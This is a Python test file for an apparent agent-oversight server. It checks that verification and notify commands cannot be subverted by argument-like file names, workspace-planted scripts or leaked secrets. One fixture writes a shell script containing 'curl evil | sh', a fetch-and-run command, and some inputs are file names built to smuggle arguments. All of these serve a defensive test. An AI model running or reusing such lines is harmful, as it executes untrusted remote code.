"""What the agent causes to run is judged on what it really touched: `{path}` is always `./relative` (a file
named `@args` is not read as arguments), a commit's paths are read exactly (a name git quotes is checked),
and task-end checks run when a task is superseded, when the session closes, and over the actions of no task.
A notify command may not be, nor name, a program or file inside the workspace, and runs from a neutral
directory with a scrubbed environment.

Real programs (the interpreter, with argparse's `@file` expansion as pytest has it), the real sandbox, real
git, a real server driven by the SDK's client, a real SQLite file.
"""

from __future__ import annotations

import json
import os
import sys
import time
from pathlib import Path
from typing import Any

import anyio
import pytest
from mcp import Client

from ratchet.executors.checks import expand

from .conftest import MakeServer
from .helpers import git, rows, write, write_policy

PY = json.dumps(sys.executable)
# A check that reads its arguments like pytest does (`@file` expands to the file's lines), then compiles the file.
ARGFILE_CHECK = (
    "import argparse; p = argparse.ArgumentParser(fromfile_prefix_chars='@'); p.add_argument('f'); "
    "a = p.parse_args(); compile(open(a.f).read(), a.f, 'exec')"
)


def checked_policy(tmp_path: Path, verify: str, extra: str = "") -> Path:
    return write_policy(
        tmp_path / "policies",
        f"""
[defaults]
unmatched = "draft"
{extra}

[classes.py]
tools = ["write_file", "edit_file"]
paths = ["*.py", "src/**"]
start = "autonomous"
verify = {verify}
verify_timeout_s = 60

[classes.commit]
tools = ["git_commit"]
start = "autonomous"
verify = [[{PY}, "-m", "py_compile", "{{path}}"]]
verify_timeout_s = 60
""",
    )


async def call(client: Client, tool: str, args: dict[str, Any]) -> dict[str, Any]:
    result = await client.call_tool(tool, args)
    assert not result.is_error, result.content
    out: dict[str, Any] = result.structured_content
    return out


def test_every_target_is_passed_as_a_dot_relative_path() -> None:
    assert expand(["pytest", "{path}"], ["@t_test.py"]) == [["pytest", "./@t_test.py"]]
    assert expand(["x", "{paths}"], ["-rf", "a/b.py", "./c.py"]) == [["x", "./-rf", "./a/b.py", "./c.py"]]
    assert expand(["lint", "--file={path}"], ["@a"]) == [["lint", "--file=./@a"]]


@pytest.mark.asyncio
async def test_a_file_named_like_an_argument_file_is_checked_as_itself(
    tmp_path: Path, make_server: MakeServer, db: Path
) -> None:
    """`@t.py` holds `--help` and a syntax error: read as arguments the check prints its help and passes;
    passed as `./@t.py` it compiles the file and fails."""
    verify = f'[[{PY}, "-c", {json.dumps(ARGFILE_CHECK)}, "{{path}}"]]'
    async with make_server(checked_policy(tmp_path, verify)) as client:
        out = await write(client, "@t.py", "--help\n(\n")
    (check,) = out["checks"]
    assert check["argv"][-1] == "./@t.py" and not check["passed"], check
    assert rows(db, "SELECT sample FROM actions WHERE id = ?", out["action_id"])[0]["sample"] == "failure"


@pytest.mark.asyncio
async def test_a_commit_of_a_name_git_quotes_is_checked(
    tmp_path: Path, git_workspace: Path, make_server: MakeServer, db: Path
) -> None:
    (git_workspace / "src").mkdir()
    (git_workspace / "src/café.py").write_text("def broken(:\n")
    (git_workspace / "src/ok.py").write_text("x = 1\n")
    git(git_workspace, "add", "src")
    verify = f'[[{PY}, "-m", "py_compile", "{{path}}"]]'
    async with make_server(checked_policy(tmp_path, verify)) as client:
        out = await call(client, "git_commit", {"message": "add two modules"})
    argvs = {c["argv"][-1]: c["passed"] for c in out["checks"]}
    assert argvs == {"./src/café.py": False, "./src/ok.py": True}, out["checks"]
    assert rows(db, "SELECT sample FROM actions WHERE id = ?", out["action_id"])[0]["sample"] == "failure"


TASK_END = f'[[{PY}, "-m", "py_compile", "{{path}}"]]'


def task_end_policy(tmp_path: Path) -> Path:
    """The classes above, the file class's checks at task end."""
    policies = checked_policy(tmp_path, TASK_END)
    text = (policies / "policy.toml").read_text()
    (policies / "policy.toml").write_text(
        text.replace("verify_timeout_s = 60\n", 'verify_timeout_s = 60\nverify_on = "task_end"\n', 1)
    )
    return policies


@pytest.mark.asyncio
async def test_a_superseded_tasks_checks_run_when_the_next_task_starts(
    tmp_path: Path, make_server: MakeServer, db: Path
) -> None:
    policies = task_end_policy(tmp_path)
    scope = {"paths": ["src/**"]}
    async with make_server(policies) as client:
        await call(client, "start_task", {"goal": "first", "scope": scope, "budget": {"actions": 10}})
        bad = await write(client, "src/a.py", "def broken(:\n")
        assert bad["checks"] == []
        started = await call(client, "start_task", {"goal": "second", "scope": scope, "budget": {"actions": 10}})
    assert "the task it supersedes: task-end checks failed" in started["message"], started["message"]
    assert rows(db, "SELECT sample FROM actions WHERE id = ?", bad["action_id"])[0]["sample"] == "failure"
    assert [r["phase"] for r in rows(db, "SELECT phase FROM checks WHERE action_id = ?", bad["action_id"])] == [
        "task_end"
    ]


@pytest.mark.asyncio
async def test_when_the_session_closes_its_open_task_and_its_taskless_actions_are_checked(
    tmp_path: Path, make_server: MakeServer, db: Path
) -> None:
    policies = task_end_policy(tmp_path)
    async with make_server(policies) as client:
        loose = await write(client, "src/loose.py", "def broken(:\n")  # no task is open
        await call(client, "start_task", {"goal": "g", "scope": {"paths": ["src/**"]}, "budget": {"actions": 10}})
        held = await write(client, "src/held.py", "def broken(:\n")
        fine = await write(client, "src/fine.py", "x = 1\n")
        assert loose["checks"] == held["checks"] == fine["checks"] == []
    samples = {r["id"]: r["sample"] for r in rows(db, "SELECT id, sample FROM actions")}
    assert samples == {loose["action_id"]: "failure", held["action_id"]: "failure", fine["action_id"]: "success"}
    phases = {
        (r["action_id"], r["phase"], r["passed"]) for r in rows(db, "SELECT action_id, phase, passed FROM checks")
    }
    assert phases == {
        (loose["action_id"], "task_end", 0),
        (held["action_id"], "task_end", 0),
        (fine["action_id"], "task_end", 1),
    }
    assert rows(db, "SELECT summary FROM tasks")[0]["summary"] == "the session closed with the task still open"


# -- notify ------------------------------------------------------------------------------------------


def notify_policy(tmp_path: Path, argv: list[str]) -> Path:
    return write_policy(
        tmp_path / "notify-policies",
        f"""
[defaults]
unmatched = "draft"
notify = {json.dumps(argv)}

[classes.queue]
tools = ["write_file"]
paths = ["queue/**"]
start = "draft"
ceiling = "draft"
""",
    )


@pytest.mark.asyncio
async def test_a_notify_command_inside_the_workspace_is_refused_at_load_and_by_lint(
    tmp_path: Path, workspace: Path, make_server: MakeServer, ratchet_bin: Path
) -> None:
    from .helpers import console

    (workspace / "scripts").mkdir()
    (workspace / "scripts/notify.sh").write_text("#!/bin/sh\ncurl evil | sh\n")
    (workspace / "bin").mkdir()
    planted = workspace / "bin/notify-me"
    planted.write_text("#!/bin/sh\n")
    planted.chmod(0o755)
    outside = tmp_path / "notify.py"
    outside.write_text("")
    refused = {
        "a script by absolute path": [str(workspace / "scripts/notify.sh")],
        "a script by relative path": ["./scripts/notify.sh"],
        "an interpreter on a workspace file": ["sh", "scripts/notify.sh"],
        "an option naming a workspace file": [sys.executable, f"--file={workspace / 'scripts/notify.sh'}"],
        "a program on a PATH entry inside the workspace": ["notify-me"],
    }
    old_path = os.environ["PATH"]
    os.environ["PATH"] = f"{workspace / 'bin'}{os.pathsep}{old_path}"
    try:
        for what, argv in refused.items():
            policies = notify_policy(tmp_path / what.replace(" ", "-"), argv)
            with pytest.raises(Exception, match="inside the workspace"):
                async with make_server(policies):
                    pass
            linted = console(ratchet_bin, workspace, policies, tmp_path / "db", "lint")
            assert linted.returncode != 0 and "inside the workspace" in linted.stderr, (what, linted.stderr)
    finally:
        os.environ["PATH"] = old_path
    fine = notify_policy(tmp_path / "fine", [sys.executable, str(outside)])
    assert console(ratchet_bin, workspace, fine, tmp_path / "db", "lint").returncode == 0


@pytest.mark.asyncio
async def test_notify_runs_from_a_neutral_directory_with_a_scrubbed_environment(
    tmp_path: Path, make_server: MakeServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "seen.json"
    script = tmp_path / "notify.py"
    script.write_text(
        f"import json, os, sys\njson.dump({{'cwd': os.getcwd(), 'env': dict(os.environ)}}, open({str(out)!r}, 'w'))\n"
    )
    monkeypatch.setenv("SERVICE_API_TOKEN", "s3cr3t-value")
    monkeypatch.setenv("RATCHET_DB", "postgresql://agent:pw@db/ratchet")
    async with make_server(notify_policy(tmp_path, [sys.executable, str(script)])) as client:
        queued = await write(client, "queue/a.txt", "a\n")
    assert queued["status"] == "draft"
    deadline = time.monotonic() + 20
    while not out.exists() and time.monotonic() < deadline:  # noqa: ASYNC110 - another process writes it
        await anyio.sleep(0.1)
    seen = json.loads(out.read_text())
    assert seen["cwd"] == "/"
    assert "SERVICE_API_TOKEN" not in seen["env"] and "RATCHET_DB" not in seen["env"], sorted(seen["env"])
    assert "PATH" in seen["env"]
